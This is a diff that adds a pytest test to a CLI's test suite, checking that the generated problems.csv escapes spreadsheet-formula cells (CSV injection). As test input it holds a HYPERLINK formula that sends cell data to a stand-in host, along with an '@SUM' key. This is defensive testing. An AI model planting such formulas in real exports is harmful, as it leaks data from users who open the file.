@@ -1049,3 +1049,20 @@ def test_a_mistyped_jobs_count_is_refused_before_any_process_starts(runner, tmp_
     assert f"Invalid value for '--jobs': 100000 is not in the range 1<=x<={MAX_JOBS}" in result.output
     assert not (tmp_path / "o").exists()
     assert MAX_JOBS >= 64
+
+
+def test_problems_csv_never_holds_a_cell_a_spreadsheet_would_run(runner, tmp_path):
+    """problems.csv is opened in Excel: a report id or JSON key beginning with = + - @ was
+    written as it came, and Excel runs such a cell as a formula (CSV injection)."""
+    formula = '=HYPERLINK("http://example.com/?"&A1,"open")'
+    src = write_csv(tmp_path / "e.csv", [dict(example_rows()[0], **{"admin/report_id": formula})])
+    runner.invoke(main, ["batch", str(src), "--out", str(tmp_path / "c"), "--jobs", "1"])
+    lines = tmp_path / "j.jsonl"
+    lines.write_text(json.dumps({"@SUM(1+1)": 1, "patient": {"identifier": "AB", "age": "-3"}}) + "\n")
+    runner.invoke(main, ["batch", str(lines), "--out", str(tmp_path / "j"), "--jobs", "1"])
+    problems = read_problems(tmp_path / "c") + read_problems(tmp_path / "j")
+    assert {p["report_id"] for p in problems[:1]} == {"'" + formula}
+    assert any(p["path"] == "'@SUM(1+1)" for p in problems)
+    for problem in problems:
+        for cell in problem.values():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), problem
